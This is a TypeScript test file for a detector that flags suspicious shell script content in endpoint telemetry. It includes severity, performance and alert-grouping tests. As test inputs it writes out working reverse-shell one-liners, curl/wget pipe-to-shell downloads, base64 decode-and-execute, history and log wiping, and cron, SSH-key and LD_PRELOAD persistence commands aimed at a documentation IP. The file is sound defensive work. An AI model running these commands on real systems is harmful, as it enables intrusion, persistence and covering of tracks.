import { loadFixtures, makeEvent, runFixture, testDetector } from '@tripline/core/testing';
import { describe, expect, it } from 'vitest';
import { MAX_TEXT, scan } from '../../internal/behaviours.js';
import { detector } from './detector.js';

const ids = (text: string, ctx = { packageHook: false, root: false }) => scan(text, ctx).map((f) => f.id);

describe('defender/suspicious-script-content', () => {
  it('passes its fixtures', async () => {
    await testDetector(detector, loadFixtures(new URL('./fixtures', import.meta.url)));
  });

  it('recognises each behaviour', () => {
    expect(ids('bash -i >& /dev/tcp/198.51.100.23/4444 0>&1')).toEqual(['reverse-shell']);
    expect(ids('0<&196;exec 196<>/dev/tcp/198.51.100.23/4444; sh <&196 >&196 2>&196')).toEqual(['reverse-shell']);
    expect(ids('nc -e /bin/sh 198.51.100.23 4444')).toEqual(['reverse-shell']);
    expect(ids('/usr/bin/ncat --sh-exec "bash -i" 198.51.100.23 443')).toEqual(['reverse-shell']);
    expect(ids('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.23 4444 >/tmp/f')).toEqual([
      'reverse-shell',
    ]);
    expect(ids("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.23:4444")).toEqual([
      'reverse-shell',
    ]);
    expect(
      ids(
        `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.23",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`,
      ),
    ).toEqual(['reverse-shell']);
    expect(ids('curl -fsSL http://198.51.100.23/x.sh | sudo bash')).toEqual(['download-exec']);
    expect(ids('wget -qO- http://198.51.100.23/x | /bin/sh -s -- --quiet')).toEqual(['download-exec']);
    expect(ids('sh -c "$(curl -fsSL http://198.51.100.23/i)"')).toEqual(['download-exec']);
    expect(ids('curl -s http://198.51.100.23/k -o /tmp/.k && chmod +x /tmp/.k && /tmp/.k')).toEqual(['download-exec']);
    expect(ids('echo ZWNobyBoaQ== | base64 -d | bash')).toEqual(['decode-exec']);
    expect(ids('bash -c "$(echo ZWNobyBoaQ== | base64 --decode)"')).toEqual(['decode-exec']);
    expect(ids('python3 -c "import base64;exec(base64.b64decode(\'cHJpbnQoMSk=\'))"')).toEqual(['decode-exec']);
    expect(ids('history -c')).toEqual(['history-clearing']);
    expect(ids('export HISTFILE=/dev/null')).toEqual(['history-clearing']);
    expect(ids('ln -sf /dev/null ~/.bash_history')).toEqual(['history-clearing']);
    expect(ids('truncate -s0 /var/log/auth.log')).toEqual(['log-tampering']);
    expect(ids(': > /var/log/wtmp')).toEqual(['log-tampering']);
    expect(ids('journalctl --rotate; journalctl --vacuum-time=1s')).toEqual(['log-tampering']);
    expect(ids('echo "* * * * * root /tmp/.k" >> /etc/crontab')).toEqual(['cron-persistence']);
    expect(ids('(crontab -l; echo "@reboot /tmp/.k") | crontab -')).toEqual(['cron-persistence']);
    expect(ids('cp x.service /etc/systemd/system/x.service')).toEqual(['systemd-persistence']);
    expect(ids('echo ssh-rsa AAAA… >> ~/.ssh/authorized_keys')).toEqual(['ssh-authorized-keys']);
    expect(ids('echo /lib/x.so > /etc/ld.so.preload')).toEqual(['ld-preload']);
    expect(ids('LD_PRELOAD=/dev/shm/x.so /usr/bin/passwd')).toEqual(['ld-preload']);
  });

  it('leaves the look-alikes alone', () => {
    for (const benign of [
      "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'",
      'echo > /dev/tcp/127.0.0.1/6379 >/dev/null 2>&1',
      'curl -fsSL https://example.org/key.gpg | gpg --dearmor -o /usr/share/keyrings/k.gpg',
      'curl -s https://example.org/sums | sha256sum -c',
      'echo "$CERT" | base64 -d > /etc/ssl/certs/a.pem',
      'HISTSIZE=1000',
      'grep sudo ~/.bash_history',
      'echo "ls" >> ~/.bash_history',
      'journalctl --vacuum-time=14d',
      'rm -f /var/log/auth.log.4.gz',
      'cat ~/.ssh/authorized_keys',
      'cp ~/.ssh/authorized_keys /var/backups/',
      'crontab -l > /tmp/cron.bak',
      'cat /etc/ld.so.preload',
      'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 /usr/sbin/mysqld',
      '# curl http://x | sh   (documentation, commented out)',
      'nc -z 10.0.0.5 5432',
      'rsync -e ssh -a /srv/ backup:/srv/',
    ]) {
      expect(ids(benign), benign).toEqual([]);
    }
  });

  it('raises anti-forensics to high next to an attack behaviour, medium alone', () => {
    expect(scan('history -c', { packageHook: false, root: false })[0]!.severity).toBe('medium');
    const both = scan('history -c\ncurl -s http://198.51.100.23/x | sh', { packageHook: false, root: false });
    expect(both.map((f) => [f.id, f.severity])).toEqual([
      ['download-exec', 'high'],
      ['history-clearing', 'high'],
    ]);
  });

  it("treats root's authorized_keys as high and ignores package-hook cron/systemd writes only", () => {
    expect(scan('echo k >> /root/.ssh/authorized_keys', { packageHook: false, root: false })[0]!.severity).toBe('high');
    expect(scan('echo k >> ~/.ssh/authorized_keys', { packageHook: false, root: true })[0]!.severity).toBe('high');
    expect(scan('echo k >> ~/.ssh/authorized_keys', { packageHook: false, root: false })[0]!.severity).toBe('medium');
    expect(ids('echo "0 3 * * * root /usr/sbin/x" > /etc/cron.d/x', { packageHook: true, root: true })).toEqual([]);
    expect(ids('curl -s http://198.51.100.23/x | sh', { packageHook: true, root: true })).toEqual(['download-exec']);
  });

  it('stays fast on hostile input (bounded, linear-time patterns)', () => {
    const hostile = `${'curl '.repeat(20_000)}\n${'/dev/tcp/'.repeat(10_000)}\n${'> '.repeat(40_000)}${'x'.repeat(MAX_TEXT)}`;
    const start = performance.now();
    scan(hostile, { packageHook: false, root: false });
    // Room for a loaded CI machine; backtracking on this input would take minutes.
    expect(performance.now() - start).toBeLessThan(5_000);
  });

  it('renders quoted lines, behaviours and per-alert ATT&CK ids', async () => {
    const fixtures = loadFixtures(new URL('./fixtures', import.meta.url));
    const f = fixtures.fires.find((x) => x.name === 'fires.cleanup-and-persistence.json')!;
    const result = await runFixture(detector, f);
    const alert = result.alerts[0]!;
    expect(alert.mitre.map((m) => m.id)).toEqual([
      'T1053.003',
      'T1059.004',
      'T1070.002',
      'T1070.003',
      'T1098.004',
      'T1105',
    ]);
    const lines = alert.evidence.keyComponents['Matched Lines'] as readonly string[];
    expect(lines).toContain(
      "[SSH authorized_keys modified] echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq0cmVzcGFzczpub3RhcmVhbGtleQ backup@ops' >> /root/.ssh/authorized_keys",
    );
    expect(alert.key.startsWith('sha256:')).toBe(true);
  });

  it('keys one alert per script hash, grouping repeated runs', async () => {
    const row = (ts: string, id: number) =>
      makeEvent('DeviceEvents', {
        Timestamp: ts,
        DeviceId: 'd1',
        DeviceName: 'web01',
        ActionType: 'ScriptContent',
        ReportId: id,
        SHA256: 'ab'.repeat(32),
        InitiatingProcessFileName: 'dash',
        InitiatingProcessCommandLine: 'sh /tmp/x',
        AdditionalFields: JSON.stringify({ ScriptContent: 'nc -e /bin/sh 198.51.100.23 4444' }),
      });
    const { analyzeEvents } = await import('@tripline/core');
    const result = await analyzeEvents([row('2025-11-14T02:00:00Z', 1), row('2025-11-14T02:05:00Z', 2)], {
      detectors: [detector],
    });
    expect(result.alerts).toHaveLength(1);
    expect(result.alerts[0]!.evidence.eventCount).toBe(2);
    expect(result.alerts[0]!.severity).toBe('high');
    expect(result.alerts[0]!.evidence.keyComponents.Runs).toBe('2');
    const once = await analyzeEvents([row('2025-11-14T02:00:00Z', 1)], { detectors: [detector] });
    expect(once.alerts[0]!.evidence.keyComponents.Runs).toBeUndefined();
  });

  it('shows twelve matched lines and counts the rest', async () => {
    // Defender reports one hash for three runs whose bodies differ: five quoted lines each.
    const run = (n: number) =>
      makeEvent('DeviceEvents', {
        Timestamp: `2025-11-14T02:0${n}:00Z`,
        DeviceId: 'd1',
        DeviceName: 'web01',
        ActionType: 'ScriptContent',
        ReportId: n,
        SHA256: 'cd'.repeat(32),
        InitiatingProcessFileName: 'bash',
        AdditionalFields: JSON.stringify({
          ScriptContent: Array.from({ length: 5 }, (_, i) => `rm -f /home/u${n}${i}/.bash_history`).join('\n'),
        }),
      });
    const { analyzeEvents } = await import('@tripline/core');
    const alert = (await analyzeEvents([run(1), run(2), run(3)], { detectors: [detector] })).alerts[0]!;
    const lines = alert.evidence.keyComponents['Matched Lines'] as readonly string[];
    expect(lines).toHaveLength(13);
    expect(lines[12]).toBe('(3 more)');
    expect(alert.description).toContain('contains 1 attacker behaviour(s)');
  });
});
